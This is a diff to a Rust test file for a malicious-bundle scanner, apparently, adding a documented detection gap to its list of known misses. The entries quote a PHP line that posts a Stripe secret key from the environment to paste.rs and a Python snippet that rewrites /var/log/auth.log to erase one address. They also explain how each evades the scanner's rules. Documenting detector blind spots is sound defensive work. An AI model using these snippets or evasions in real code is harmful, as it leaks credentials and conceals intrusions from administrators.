@@ -19,6 +19,10 @@ use skillworld_scan::{ScanReport, scan_bundle};
 /// Malicious fixtures the scanner is known to miss, and why.
 const KNOWN_MISSES: &[(&str, &str)] = &[
     (
+        "refund-report-php-l47",
+        "lead (PHP sends, left): `curl_setopt($ping, CURLOPT_POSTFIELDS, 'k=' . getenv('STRIPE_SECRET_KEY') …)` posts the key to paste.rs, but the same file reads Stripe with `'Authorization: Bearer ' . getenv(…)`; `env-secret-send` is spared for the whole block once any request in it authenticates in a header, in every language. Sparing only the sends that carry the header would need each request's options followed to its `curl_exec`",
+    ),
+    (
         "authlog-python-rewrite-h45",
         "holes45 (first scan; left): Python's `LOG = \"/var/log/auth.log\"`, then `open(LOG, \"w\").writelines(kept)` with the lines of one address dropped; the literal form (`open(\"/var/log/auth.log\", \"w\")`) blocks since holes45, and a shell variable holding the log is read with its value where it is used (`log-name`), but Python names are not substituted: `reveal::normalize_with` reads shell variables and joined literals",
     ),
